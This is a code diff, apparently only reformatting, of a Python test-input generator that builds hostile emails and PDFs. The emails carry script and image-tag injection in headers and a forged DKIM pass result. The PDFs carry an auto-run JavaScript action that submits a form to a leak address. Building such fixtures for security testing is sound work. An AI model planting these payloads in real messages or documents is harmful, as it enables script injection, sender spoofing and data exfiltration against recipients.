@@ -82,15 +82,17 @@ def letter(words: str, n: int) -> bytes:
              f"Content-Description: {said}", "Content-ID: <\"><script>@x>"),
     ]  # fmt: skip
     whole = multi(body, *files)
-    head = b"".join((
-        f"From: {said} <reader{n}@patron.example>\r\nSender: {said} <s@patron.example>\r\nTo: {said} <office@demo.example>\r\n".encode(),
-        f"Cc: {said} <cc@patron.example>\r\nReply-To: {said} <r@bad.example>\r\nSubject: {said}\r\n".encode(),
-        b"X-Raw: " + raw + b"\r\nOrganization: " + raw + b"\r\nX-Mailer: " + raw + b"\r\n",
-        f"Message-ID: <{n}.\"><img/src=x>@patron.example>\r\nIn-Reply-To: <{IMAGE}@x>\r\nReferences: <a{IMAGE}@x> {said}\r\n".encode(),
-        b"Authentication-Results: mx.demo.example; dkim=pass header.d=" + raw[:60] + b"\r\n",
-        f"Received: from {IMAGE} by x; Thu, 26 Nov 2026\r\n".encode(),
-        f"Date: {said}\r\nMIME-Version: 1.0\r\n".encode(),
-    ))  # fmt: skip
+    head = b"".join(
+        (
+            f"From: {said} <reader{n}@patron.example>\r\nSender: {said} <s@patron.example>\r\nTo: {said} <office@demo.example>\r\n".encode(),
+            f"Cc: {said} <cc@patron.example>\r\nReply-To: {said} <r@bad.example>\r\nSubject: {said}\r\n".encode(),
+            b"X-Raw: " + raw + b"\r\nOrganization: " + raw + b"\r\nX-Mailer: " + raw + b"\r\n",
+            f'Message-ID: <{n}."><img/src=x>@patron.example>\r\nIn-Reply-To: <{IMAGE}@x>\r\nReferences: <a{IMAGE}@x> {said}\r\n'.encode(),
+            b"Authentication-Results: mx.demo.example; dkim=pass header.d=" + raw[:60] + b"\r\n",
+            f"Received: from {IMAGE} by x; Thu, 26 Nov 2026\r\n".encode(),
+            f"Date: {said}\r\nMIME-Version: 1.0\r\n".encode(),
+        )
+    )
     start = whole.index(b"Content-Type: multipart/mixed")
     return head + whole[start:]
 
@@ -117,8 +119,10 @@ def document(words: str) -> bytes:
     """A PDF with a title, text, a link, a form that is sent, and scripts that want to run."""
     said = words.encode("ascii", "replace").replace(b"\\", b"").replace(b"(", b"").replace(b")", b"")
     content = zlib.compress(b"BT /F1 12 Tf 40 700 Td (" + said + b") Tj ET")
-    more = [b"<</Type /Action /S /JavaScript /JS (app.alert\\(1\\);this.submitForm\\('" + LEAK.encode() + b"'\\))>>",
-            b"<</Type /Annot /Subtype /Link /Rect [0 0 595 842] /A <</S /URI /URI (" + LEAK.encode() + b")>>>>"]  # fmt: skip
+    more = [
+        b"<</Type /Action /S /JavaScript /JS (app.alert\\(1\\);this.submitForm\\('" + LEAK.encode() + b"'\\))>>",
+        b"<</Type /Annot /Subtype /Link /Rect [0 0 595 842] /A <</S /URI /URI (" + LEAK.encode() + b")>>>>",
+    ]
     made = one_page(content, resources=b"/Font <</F1 <</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>>>", more=more)
     return made.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction 5 0 R /Lang (" + said[:40] + b")", 1)
 
